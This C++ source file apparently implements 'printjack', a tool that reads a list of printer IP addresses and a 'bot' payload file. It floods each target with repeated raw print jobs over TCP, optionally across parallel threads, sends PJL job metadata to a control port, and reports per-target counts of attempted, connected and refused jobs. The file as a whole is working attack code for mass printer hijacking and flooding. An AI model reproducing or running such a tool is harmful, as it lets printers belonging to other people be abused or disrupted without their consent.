#include "printjack/job_client.hpp"

#include <algorithm>
#include <atomic>
#include <charconv>
#include <fstream>
#include <sstream>
#include <thread>

namespace printjack::client {
namespace {

constexpr std::size_t kMaxErrorsKept = 8;

std::string read_file(const std::filesystem::path& path, const char* what) {
  std::ifstream in(path, std::ios::binary);
  if (!in) throw PlanError(std::string("cannot read ") + what + " file: " + path.string());
  std::ostringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

std::string_view trim(std::string_view s) {
  while (!s.empty() && (s.front() == ' ' || s.front() == '\t')) s.remove_prefix(1);
  while (!s.empty() && (s.back() == ' ' || s.back() == '\t' || s.back() == '\r')) s.remove_suffix(1);
  return s;
}

bool ieq(std::string_view a, std::string_view b) {
  return std::equal(a.begin(), a.end(), b.begin(), b.end(),
                    [](char x, char y) { return std::toupper(static_cast<unsigned char>(x)) == std::toupper(static_cast<unsigned char>(y)); });
}

void flood_target(const FloodPlan& plan, std::size_t index, TargetCounters& counters, const JobHook& hook) {
  const std::string payload = frame_lines(plan.bot_payload);
  for (std::uint32_t rep = 0; rep < plan.repetitions; ++rep) {
    ++counters.jobs_attempted;
    try {
      counters.bytes_sent += send_raw(counters.target, payload, plan.send);
      ++counters.jobs_connected;
    } catch (const net::NetError& e) {
      ++counters.jobs_refused;
      if (counters.errors.size() < kMaxErrorsKept) counters.errors.emplace_back(e.what());
    }
    if (hook) hook(index, rep);
    if (plan.inter_job_delay.count() > 0) std::this_thread::sleep_for(plan.inter_job_delay);
  }
}

}  // namespace

std::string frame_lines(const std::vector<std::string>& lines) {
  std::string out;
  for (const auto& line : lines) {
    out += line;
    out += '\n';
  }
  return out;
}

std::size_t send_raw(const net::Endpoint& target, std::string_view payload, const SendOptions& options) {
  net::Socket sock = net::connect_tcp(target, options.connect_timeout, options.policy);
  sock.send_all(payload);
  sock.shutdown_write();
  // The printer never writes on the data channel; EOF means "job applied".
  // A printer that resets the connection after reading still got the bytes.
  try {
    sock.read_to_eof(options.completion_timeout);
  } catch (const net::NetError&) {
  }
  return payload.size();
}

std::size_t send_job(const net::Endpoint& target, const std::vector<std::string>& lines, const SendOptions& options) {
  return send_raw(target, frame_lines(lines), options);
}

std::string send_metadata(const net::Endpoint& control, const pjl::JobMetadata& metadata,
                          const SendOptions& options) {
  net::Socket sock = net::connect_tcp(control, options.connect_timeout, options.policy);
  sock.send_all(pjl::format_set_lines(metadata));
  sock.shutdown_write();
  return sock.read_to_eof(options.completion_timeout);
}

std::vector<net::Endpoint> parse_targets(std::string_view text, std::uint16_t default_port) {
  std::vector<net::Endpoint> out;
  std::size_t start = 0;
  std::size_t line_no = 0;
  while (start <= text.size()) {
    std::size_t end = text.find('\n', start);
    if (end == std::string_view::npos) end = text.size();
    const std::string_view line = trim(text.substr(start, end - start));
    ++line_no;
    start = end + 1;
    if (line.empty() || line.front() == '#') continue;

    const auto comma = line.find(',');
    const std::string_view ip = trim(line.substr(0, comma));
    if (ieq(ip, "IP")) continue;  // export header
    if (!net::is_ipv4(ip)) {
      throw PlanError("targets line " + std::to_string(line_no) + ": bad IPv4 address '" + std::string(ip) + "'");
    }
    std::uint16_t port = default_port;
    if (comma != std::string_view::npos) {
      std::string_view port_text = line.substr(comma + 1);
      port_text = trim(port_text.substr(0, port_text.find(',')));
      unsigned value = 0;
      const auto [ptr, ec] = std::from_chars(port_text.data(), port_text.data() + port_text.size(), value);
      if (ec != std::errc{} || ptr != port_text.data() + port_text.size() || value == 0 || value > 65535) {
        throw PlanError("targets line " + std::to_string(line_no) + ": bad port '" + std::string(port_text) + "'");
      }
      port = static_cast<std::uint16_t>(value);
    }
    out.push_back({std::string(ip), port});
  }
  return out;
}

std::vector<net::Endpoint> load_targets(const std::filesystem::path& path, std::uint16_t default_port) {
  return parse_targets(read_file(path, "targets"), default_port);
}

std::vector<std::string> split_bot_lines(std::string_view text) {
  std::vector<std::string> lines;
  std::size_t start = 0;
  while (start < text.size()) {
    std::size_t end = text.find('\n', start);
    if (end == std::string_view::npos) end = text.size();
    lines.emplace_back(text.substr(start, end - start));
    start = end + 1;
  }
  return lines;
}

std::vector<std::string> load_bot(const std::filesystem::path& path) { return split_bot_lines(read_file(path, "bot")); }

void FloodPlan::validate() const {
  if (repetitions < 1) throw PlanError("repetitions must be at least 1");
  if (targets.empty()) throw PlanError("flood plan has no targets");
  if (parallel_targets < 1) throw PlanError("parallel_targets must be at least 1");
}

FloodPlan FloodPlan::from_files(const std::filesystem::path& targets_file, const std::filesystem::path& bot_file,
                                std::uint32_t repetitions, std::uint16_t default_port) {
  FloodPlan plan;
  plan.targets = load_targets(targets_file, default_port);
  plan.bot_payload = load_bot(bot_file);
  plan.repetitions = repetitions;
  plan.validate();
  return plan;
}

std::uint64_t FloodResult::total_attempted() const noexcept {
  std::uint64_t n = 0;
  for (const auto& t : per_target) n += t.jobs_attempted;
  return n;
}
std::uint64_t FloodResult::total_connected() const noexcept {
  std::uint64_t n = 0;
  for (const auto& t : per_target) n += t.jobs_connected;
  return n;
}
std::uint64_t FloodResult::total_refused() const noexcept {
  std::uint64_t n = 0;
  for (const auto& t : per_target) n += t.jobs_refused;
  return n;
}
std::uint64_t FloodResult::total_bytes() const noexcept {
  std::uint64_t n = 0;
  for (const auto& t : per_target) n += t.bytes_sent;
  return n;
}

nlohmann::json to_json(const FloodResult& r) {
  nlohmann::json targets = nlohmann::json::array();
  for (const auto& t : r.per_target) {
    targets.push_back({{"target", t.target.to_string()},
                       {"jobs_attempted", t.jobs_attempted},
                       {"jobs_connected", t.jobs_connected},
                       {"jobs_refused", t.jobs_refused},
                       {"bytes_sent", t.bytes_sent}});
  }
  return {{"targets", targets},
          {"jobs_attempted", r.total_attempted()},
          {"jobs_connected", r.total_connected()},
          {"jobs_refused", r.total_refused()},
          {"bytes_sent", r.total_bytes()}};
}

FloodResult run_flood(const FloodPlan& plan, const JobHook& after_job) {
  plan.validate();
  for (const auto& t : plan.targets) net::check_target(t, plan.send.policy);

  FloodResult result;
  for (const auto& t : plan.targets) result.per_target.push_back(TargetCounters{t, 0, 0, 0, 0, {}});

  if (plan.parallel_targets <= 1) {
    for (std::size_t i = 0; i < plan.targets.size(); ++i) flood_target(plan, i, result.per_target[i], after_job);
    return result;
  }

  // Each worker owns whole targets, so per-target counters need no locking.
  std::atomic<std::size_t> next{0};
  std::vector<std::thread> workers;
  const std::size_t n = std::min(plan.parallel_targets, plan.targets.size());
  for (std::size_t w = 0; w < n; ++w) {
    workers.emplace_back([&] {
      for (std::size_t i = next++; i < plan.targets.size(); i = next++) {
        flood_target(plan, i, result.per_target[i], after_job);
      }
    });
  }
  for (auto& w : workers) w.join();
  return result;
}

}  // namespace printjack::client
